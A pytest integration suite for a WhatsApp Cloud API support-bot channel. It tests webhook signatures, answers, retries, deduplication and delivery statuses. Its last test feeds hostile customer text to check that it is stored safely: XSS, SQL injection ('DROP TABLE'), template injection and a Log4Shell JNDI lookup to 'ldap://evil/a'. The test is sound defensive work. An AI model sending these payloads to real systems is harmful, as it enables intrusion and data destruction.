"""The WhatsApp channel's contract against the real running stack (Rasa trained on the real data,
the action server with the real index, the gateway on SQLite), with the WhatsApp Cloud API
simulator playing Meta: signed webhooks in, Graph API calls out."""
from __future__ import annotations

import hashlib
import hmac
import json
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid

import pytest

from bot.settings_doc import SETTINGS_DOC
from tests.conftest import WHATSAPP_TEST_SETTINGS, get_json
from tests.test_stack import FIRST_QUESTIONS

pytestmark = pytest.mark.stack

WEBHOOK = "/webhooks/whatsapp/webhook"
SECRET = WHATSAPP_TEST_SETTINGS["WHATSAPP_APP_SECRET"]
COUNTRY = {"en": "1555", "de": "49151", "tr": "90532", "ja": "8190"}


def user(lang: str = "en") -> str:
    return COUNTRY[lang] + str(uuid.uuid4().int)[:8]


def http(method: str, url: str, body: bytes | None = None, headers: dict | None = None):
    req = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, resp.headers.get("Content-Type", ""), resp.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers.get("Content-Type", ""), exc.read().decode()


def signed(body: bytes, secret: str = SECRET) -> dict:
    return {"Content-Type": "application/json",
            "X-Hub-Signature-256": "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()}


def inbound(stack, wamid: str):
    with stack.db() as db:
        return db.execute("SELECT * FROM messages WHERE channel = 'whatsapp' AND platform_message_id = ?",
                          (wamid,)).fetchone()


def wait_processed(stack, sim, wamid: str, timeout: float = 90):
    return sim.wait_for(lambda: (row := inbound(stack, wamid)) is not None and row["delivery_status"] == "processed"
                        and row, timeout=timeout, what=f"{wamid} to be answered")


def outbound(stack, wamid: str) -> list:
    """The stored replies to one customer message."""
    row = inbound(stack, wamid)
    with stack.db() as db:
        rows = db.execute("SELECT * FROM messages WHERE conversation_id = ? AND direction = 'out' AND id > ? "
                          "ORDER BY id", (row["conversation_id"], row["id"])).fetchall()
    return [r for r in rows if json.loads(r["meta"] or "{}").get("in_reply_to") == row["public_id"]]


def ids(rows) -> set[str]:
    return {r["public_id"] for r in rows}


def replies_sent(sent: list[dict]) -> set[str]:
    """The stored replies these sent messages carry (biz_opaque_callback_data: m:<reply's id>:<part>)."""
    return {m["payload"]["biz_opaque_callback_data"].split(":")[1] for m in sent}


def events(stack, wamid: str, type_: str) -> list[dict]:
    row = inbound(stack, wamid)
    with stack.db() as db:
        rows = db.execute("SELECT data FROM conversation_events WHERE conversation_id = ? AND type = ? ORDER BY id",
                          (row["conversation_id"], type_)).fetchall()
    return [json.loads(r["data"]) for r in rows]


def body_of(sent: dict) -> str:
    p = sent["payload"]
    return p["text"]["body"] if p["type"] == "text" else p["interactive"]["body"]["text"]


def whatsapp_message_count(stack) -> int:
    with stack.db() as db:
        return db.execute("SELECT count(*) FROM messages WHERE channel = 'whatsapp'").fetchone()[0]


# --- verification handshake and webhook security --------------------------------------------------

def test_verification_handshake_answers_the_challenge_only_for_the_right_token(running_stack, whatsapp_sim):
    url = running_stack.url + WEBHOOK + "?"
    good = {"hub.mode": "subscribe", "hub.verify_token": WHATSAPP_TEST_SETTINGS["WHATSAPP_VERIFY_TOKEN"],
            "hub.challenge": "1158201444"}
    status, ctype, text = http("GET", url + urllib.parse.urlencode(good))
    assert (status, text) == (200, "1158201444") and ctype.startswith("text/plain")
    for bad in ({**good, "hub.verify_token": "wrong"}, {**good, "hub.mode": "unsubscribe"},
                {k: v for k, v in good.items() if k != "hub.verify_token"}, {}):
        assert http("GET", url + urllib.parse.urlencode(bad))[0] == 403, bad
    assert whatsapp_sim.verify_webhook()["verified"]  # what Meta's "Verify and save" does
    assert get_json(running_stack.url + "/webhooks/whatsapp/") == (200, {"status": "ok"})


@pytest.mark.parametrize("case", ["missing", "mismatch", "other-secret", "sha1", "not-json", "json-array",
                                  "bad-utf8", "oversized"])
def test_bad_webhooks_are_refused_before_anything_is_stored(running_stack, whatsapp_sim, case):
    to = user()
    wamid, envelope = whatsapp_sim.message_notification(to, {"type": "text", "text": {"body": "forged"}})
    raw = json.dumps(envelope).encode()
    headers = signed(raw)
    expected = 403
    if case == "missing":
        headers.pop("X-Hub-Signature-256")
        expected = 401
    elif case == "mismatch":
        raw = raw.replace(b"forged", b"FORGED")
    elif case == "other-secret":
        headers = signed(raw, "not-the-app-secret")
    elif case == "sha1":
        headers["X-Hub-Signature-256"] = "sha1=" + hmac.new(SECRET.encode(), raw, hashlib.sha1).hexdigest()
    elif case == "not-json":
        raw = b"{'object': whatsapp_business_account"
        headers, expected = signed(raw), 400
    elif case == "json-array":
        raw = b"[1, 2, 3]"
        headers, expected = signed(raw), 400
    elif case == "bad-utf8":
        raw = b'{"object": "\xff\xfe"}'
        headers, expected = signed(raw), 400
    elif case == "oversized":  # over the webhook's own limit (the default of WHATSAPP_WEBHOOK_MAX_BYTES)
        raw = json.dumps({**envelope, "padding": "x" * int(SETTINGS_DOC["WHATSAPP_WEBHOOK_MAX_BYTES"][0])}).encode()
        headers, expected = signed(raw), 413
    status, _, _ = http("POST", running_stack.url + WEBHOOK, raw, headers)
    assert status == expected
    assert inbound(running_stack, wamid) is None
    with running_stack.db() as db:  # not even the customer (the database is shared with other tests: no counts)
        assert db.execute("SELECT count(*) FROM contact_identities WHERE source_id = ?", (to,)).fetchone()[0] == 0


def test_well_signed_but_odd_notifications_are_acknowledged_and_ignored(running_stack, whatsapp_sim):
    before = whatsapp_message_count(running_stack)
    odd = [
        {"object": "page", "entry": [{"id": "1"}]},  # another product's notification
        {"object": "whatsapp_business_account", "entry": "nonsense"},
        {"object": "whatsapp_business_account", "entry": [1, "two", None, {"changes": [{"value": [1]}]}]},
        {"object": "whatsapp_business_account", "entry": [{"changes": [{"field": "messages", "value": {
            "messaging_product": "whatsapp", "metadata": {"phone_number_id": "someone-else"},
            "messages": [{"from": "1", "id": "wamid.x", "type": "text", "text": {"body": "not for us"}}]}}]}]},
        whatsapp_sim.envelope({"messages": [{"id": "wamid.nosender", "type": "text", "text": {"body": "x"}}]}),
        whatsapp_sim.envelope({"statuses": [{"id": "wamid.unknown", "status": "read", "timestamp": "1"}]}),
    ]
    for body in odd:
        status, _ = whatsapp_sim.deliver(body)
        assert status == 200, body
    assert whatsapp_message_count(running_stack) == before


# --- answers -------------------------------------------------------------------------------------

@pytest.mark.parametrize("question,lang,group,link", FIRST_QUESTIONS)
def test_a_question_gets_the_right_article_answer_through_whatsapp(running_stack, whatsapp_sim, question, lang,
                                                                   group, link):
    to = user(lang)
    wamid, statuses = whatsapp_sim.send_text(to, question, name=f"Customer {lang}")
    assert statuses == [200]
    wait_processed(running_stack, whatsapp_sim, wamid)
    sent = whatsapp_sim.messages_to(to)
    answer = next((m for m in sent if link in body_of(m)), None)
    assert answer is not None, [body_of(m) for m in sent]
    kb = events(running_stack, wamid, "kb_answer")[0]
    assert kb["decision"] == "answer" and kb["articles"][0]["group"] == group and kb["articles"][0]["locale"] == lang
    # "did this help?" as WhatsApp reply buttons, titles within Meta's 20 characters, payloads as ids
    buttons = [m["payload"]["interactive"] for m in sent if m["payload"]["type"] == "interactive"]
    assert buttons and buttons[-1]["type"] == "button"
    replies = [b["reply"] for b in buttons[-1]["action"]["buttons"]]
    assert {r["id"] for r in replies} == {"/affirm", "/deny"} and all(len(r["title"]) <= 20 for r in replies)
    # every reply is recorded with its WhatsApp id; mark-as-read with the typing indicator was sent
    stored = outbound(running_stack, wamid)
    assert [r["platform_message_id"] for r in stored] == [m["id"] for m in sent]
    assert all(r["delivery_status"] in ("sent", "delivered") for r in stored)
    assert whatsapp_sim.reads_of(wamid)[0]["typing"]
    with running_stack.db() as db:
        conv = db.execute("SELECT language FROM conversations WHERE id = ?",
                          (inbound(running_stack, wamid)["conversation_id"],)).fetchone()
        contact = db.execute("SELECT c.name FROM contacts c JOIN contact_identities i ON i.contact_id = c.id "
                             "WHERE i.source_id = ?", (to,)).fetchone()
    assert conv["language"] == lang and contact["name"] == f"Customer {lang}"


def test_a_button_reply_reaches_rasa_as_its_payload(running_stack, whatsapp_sim):
    to = user("en")
    wamid, _ = whatsapp_sim.send_text(to, "How do I reset my password?")
    wait_processed(running_stack, whatsapp_sim, wamid)
    question = next(m for m in whatsapp_sim.messages_to(to) if m["payload"]["type"] == "interactive")
    yes = next(b["reply"] for b in question["payload"]["interactive"]["action"]["buttons"] if b["reply"]["id"] == "/affirm")
    reply_id, _ = whatsapp_sim.press_button(to, yes["id"], yes["title"], context=question["id"])
    wait_processed(running_stack, whatsapp_sim, reply_id)
    assert inbound(running_stack, reply_id)["text"] == "/affirm"
    feedback = events(running_stack, reply_id, "kb_feedback")
    assert feedback and feedback[-1]["helpful"] is True and feedback[-1]["group"] == "reset-password"
    assert body_of(whatsapp_sim.messages_to(to)[-1]).startswith("Great, I'm glad that helped")


def test_a_list_reply_and_a_template_quick_reply_reach_rasa_as_payloads(running_stack, whatsapp_sim):
    to = user("de")
    wamid, _ = whatsapp_sim.send_text(to, "Hallo zusammen")
    wait_processed(running_stack, whatsapp_sim, wamid)
    wamid, _ = whatsapp_sim.choose_row(to, '/choose_article{"article_group":"cancel-subscription"}',
                                       "Abo kündigen", context=None, name="List")
    wait_processed(running_stack, whatsapp_sim, wamid)
    kb = events(running_stack, wamid, "kb_answer")[-1]
    assert kb["decision"] == "chosen" and kb["articles"][0]["group"] == "cancel-subscription"
    assert any("/help/" in body_of(m) and "cancel-subscription" in body_of(m) for m in whatsapp_sim.messages_to(to))
    # a template's quick-reply button: its payload counts, not its label
    wamid, _ = whatsapp_sim.template_button(to, "/greet", "Keine Werbung mehr")
    wait_processed(running_stack, whatsapp_sim, wamid)
    assert inbound(running_stack, wamid)["text"] == "/greet"
    assert body_of(whatsapp_sim.messages_to(to)[-1]).startswith("Hallo")


def test_a_batched_post_of_messages_and_statuses_is_answered_like_single_ones(running_stack, whatsapp_sim):
    # Meta batches: two customers' questions in each of the four languages and the statuses of an
    # earlier answer in one POST, serialised as escaped-unicode JSON and signed over those bytes.
    to = user("en")
    first, _ = whatsapp_sim.send_text(to, "How do I reset my password?")
    wait_processed(running_stack, whatsapp_sim, first)
    earlier = whatsapp_sim.messages_to(to)[0]["id"]
    customers = [(user(lang), question, link) for question, lang, _, link in FIRST_QUESTIONS for _ in range(2)]
    notes = [whatsapp_sim.message_notification(to_, {"type": "text", "text": {"body": question}}) for to_, question, _
             in customers]
    batch = whatsapp_sim.batch([n for _, n in notes] + [whatsapp_sim.status_notification(earlier, "read")])
    assert whatsapp_sim.deliver(batch)[0] == 200
    for (wamid, _), (to_, _, link) in zip(notes, customers):
        wait_processed(running_stack, whatsapp_sim, wamid)
        assert any(link in body_of(m) for m in whatsapp_sim.messages_to(to_)), [body_of(m) for m in
                                                                                  whatsapp_sim.messages_to(to_)]
    assert outbound(running_stack, first)[0]["delivery_status"] == "read"


def test_a_duplicate_wamid_is_processed_once_also_across_a_gateway_restart(running_stack, whatsapp_sim):
    to = user("en")
    wamid, envelope = whatsapp_sim.message_notification(to, {"type": "text", "text": {"body": "How can I track my order?"}})
    assert [whatsapp_sim.deliver(envelope)[0] for _ in range(3)] == [200, 200, 200]
    wait_processed(running_stack, whatsapp_sim, wamid)  # its replies are sent before it is marked processed
    sent_before = len(whatsapp_sim.messages_to(to))
    assert sent_before >= 2 and replies_sent(whatsapp_sim.messages_to(to)) == ids(outbound(running_stack, wamid))
    gateway = running_stack.child("gateway")
    gateway.stop()
    try:
        status, _ = whatsapp_sim.deliver(envelope)
        assert status is None  # the gateway is down: Meta would retry later
    finally:
        gateway.start()
        running_stack.stack.wait_ready(timeout=120)
    assert whatsapp_sim.deliver(envelope)[0] == 200
    # a customer's messages are answered in turn: anything the copy set off comes before this answer
    later, _ = whatsapp_sim.send_text(to, "Thanks!")
    wait_processed(running_stack, whatsapp_sim, later)
    assert replies_sent(whatsapp_sim.messages_to(to)[sent_before:]) == ids(outbound(running_stack, later)) != set(), \
        "only the later message was answered"
    with running_stack.db() as db:
        n = db.execute("SELECT count(*) FROM messages WHERE platform_message_id = ?", (wamid,)).fetchone()[0]
    assert n == 1
    assert len(events(running_stack, wamid, "kb_answer")) == 1


def test_a_message_in_progress_at_a_restart_is_answered_once_after_it(running_stack, whatsapp_sim):
    to = user("en")
    # Meta hangs on the first send (and then drops it), so the answer is in flight when the gateway stops.
    whatsapp_sim.fail_next(1, "timeout", delay=25, accept=False)
    wamid, _ = whatsapp_sim.send_text(to, "How do I reset my password?")
    whatsapp_sim.wait_for(lambda: inbound(running_stack, wamid) is not None and len(outbound(running_stack, wamid)) >= 2,
                          timeout=60, interval=0.05, what="the answer to be stored")
    assert inbound(running_stack, wamid)["delivery_status"] == "received"  # stored, not yet sent
    gateway = running_stack.child("gateway")
    gateway.stop()
    gateway.start()
    running_stack.stack.wait_ready(timeout=120)
    wait_processed(running_stack, whatsapp_sim, wamid)
    bodies = [body_of(m) for m in whatsapp_sim.messages_to(to)]
    assert sum("/help/en/reset-password" in b for b in bodies) == 1, bodies
    assert len(events(running_stack, wamid, "kb_answer")) == 1  # Rasa was not asked twice


def test_statuses_out_of_order_never_go_backwards(running_stack, whatsapp_sim):
    to = user("en")
    whatsapp_sim.user(to).auto_statuses = ()
    wamid, _ = whatsapp_sim.send_text(to, "hello")
    wait_processed(running_stack, whatsapp_sim, wamid)
    first = whatsapp_sim.messages_to(to)[0]["id"]
    assert whatsapp_sim.send_statuses(first, ["read", "delivered", "sent"]) == [200, 200, 200]
    row = outbound(running_stack, wamid)[0]
    meta = json.loads(row["meta"])
    assert row["delivery_status"] == "read" and set(meta["wa_statuses"]) == {"sent", "delivered", "read"}
    # a failure is recorded with its error, and a late "sent" does not undo it
    wamid2, _ = whatsapp_sim.send_text(to, "How do I reset my password?")
    wait_processed(running_stack, whatsapp_sim, wamid2)
    second = outbound(running_stack, wamid2)[0]["platform_message_id"]
    err = [{"code": 131026, "title": "Message undeliverable", "message": "Message undeliverable",
            "error_data": {"details": "Message Undeliverable."}}]
    whatsapp_sim.send_statuses(second, ["failed"], errors=err)
    whatsapp_sim.send_statuses(second, ["sent"])
    row = outbound(running_stack, wamid2)[0]
    meta = json.loads(row["meta"])
    assert row["delivery_status"] == "failed" and meta["error"] == "undeliverable"
    assert meta["error_detail"]["code"] == 131026


@pytest.mark.parametrize("lang,first,kind,expected", [
    ("tr", None, "image", "Üzgünüm, burada yalnızca yazılı"),  # a first message: the phone's country decides
    ("ja", "請求書はどこでダウンロードできますか", "sticker", "申し訳ありませんが、こちらではテキスト"),
    ("de", "Wie kann ich mein Abo kündigen?", "location", "Entschuldigung, ich kann hier nur Textnachrichten"),
    ("en", "hello", "audio", "Sorry, I can only read text messages"),
])
def test_unsupported_messages_get_a_polite_reply_in_the_customers_language(running_stack, whatsapp_sim, lang, first,
                                                                           kind, expected):
    to = user(lang)
    if first:
        wamid, _ = whatsapp_sim.send_text(to, first)
        wait_processed(running_stack, whatsapp_sim, wamid)
    n = len(whatsapp_sim.messages_to(to))
    wamid, _ = whatsapp_sim.send_media(to, kind, caption="see attached")
    wait_processed(running_stack, whatsapp_sim, wamid)
    new = whatsapp_sim.messages_to(to)[n:]
    assert len(new) == 1 and body_of(new[0]).startswith(expected), [body_of(m) for m in new]
    assert json.loads(inbound(running_stack, wamid)["meta"])["wa_type"] == kind


# --- delivery: retries, errors, the 24-hour window ------------------------------------------------

def test_500_and_429_are_retried_and_nothing_is_sent_twice(running_stack, whatsapp_sim):
    to = user("en")
    whatsapp_sim.fail_next(1, "500")
    whatsapp_sim.fail_next(1, "429")
    wamid, _ = whatsapp_sim.send_text(to, "How do I reset my password?")
    wait_processed(running_stack, whatsapp_sim, wamid)
    statuses = [r["status"] for r in whatsapp_sim.requests_to(to)]
    assert statuses[:3] == [500, 429, 200] and all(s == 200 for s in statuses[2:])
    bodies = [body_of(m) for m in whatsapp_sim.messages_to(to)]
    assert len(bodies) == len(set(bodies)) == len(statuses) - 2
    stored = outbound(running_stack, wamid)
    assert [r["platform_message_id"] for r in stored] == [m["id"] for m in whatsapp_sim.messages_to(to)]
    assert all(r["delivery_status"] in ("sent", "delivered") for r in stored)


def test_a_400_is_not_retried_and_the_failure_is_recorded(running_stack, whatsapp_sim):
    to = user("en")
    whatsapp_sim.fail_next(1, "400")
    wamid, _ = whatsapp_sim.send_text(to, "How do I reset my password?")
    wait_processed(running_stack, whatsapp_sim, wamid)
    statuses = [r["status"] for r in whatsapp_sim.requests_to(to)]
    assert statuses[0] == 400 and all(s == 200 for s in statuses[1:])
    first = outbound(running_stack, wamid)[0]
    meta = json.loads(first["meta"])
    assert first["delivery_status"] == "failed" and meta["error"] == "invalid_request"
    assert meta["error_detail"]["code"] == 100 and meta["error_detail"]["fbtrace_id"]


def test_nothing_is_sent_outside_the_24_hour_window_and_the_failure_is_recorded(running_stack, whatsapp_sim):
    to = user("de")
    # Meta delivers a notification late (it retries for days): the customer wrote 25 hours ago.
    wamid, _ = whatsapp_sim.send_text(to, "Wie kann ich mein Abo kündigen?", timestamp=time.time() - 25 * 3600)
    wait_processed(running_stack, whatsapp_sim, wamid)
    assert whatsapp_sim.requests_to(to) == []
    stored = outbound(running_stack, wamid)
    assert stored and all(r["delivery_status"] == "failed" for r in stored)
    assert all(json.loads(r["meta"])["error"] == "outside_24h_window" for r in stored)
    assert events(running_stack, wamid, "kb_answer")  # the bot did answer; only sending was refused


def test_a_131047_from_the_graph_api_is_recorded_as_outside_the_window(running_stack, whatsapp_sim):
    to = user("en")
    whatsapp_sim.user(to).window_closed = True  # Meta's clock says the window closed
    wamid, _ = whatsapp_sim.send_text(to, "hello")
    wait_processed(running_stack, whatsapp_sim, wamid)
    assert [r["status"] for r in whatsapp_sim.requests_to(to)] == [400]
    assert whatsapp_sim.requests_to(to)[0]["response"]["error"]["code"] == 131047
    stored = outbound(running_stack, wamid)
    assert stored and all(r["delivery_status"] == "failed" and json.loads(r["meta"])["error"] == "outside_24h_window"
                          for r in stored)


# --- hostile input -------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "<script>alert('x')</script> How do I reset my password?",
    "'; DROP TABLE messages; -- How do I reset my password?",
    "{{7*7}} ${jndi:ldap://evil/a} %s%s%s \u202e\u0000 password reset",
    "🙂" * 3000 + " x" * 3000,  # longer than MAX_MESSAGE_CHARS
])
def test_hostile_text_is_stored_as_text_and_answered(running_stack, whatsapp_sim, text):
    to = user("en")
    wamid, statuses = whatsapp_sim.send_text(to, text)
    assert statuses == [200]
    row = wait_processed(running_stack, whatsapp_sim, wamid)
    expected = text.replace("\x00", "")[:4000]
    assert row["text"] == expected
    stored = outbound(running_stack, wamid)  # answered, each reply stored with the id WhatsApp gave it
    assert stored and [r["platform_message_id"] for r in stored] == [m["id"] for m in whatsapp_sim.messages_to(to)]
    assert get_json(running_stack.url + "/healthz")[0] == 200
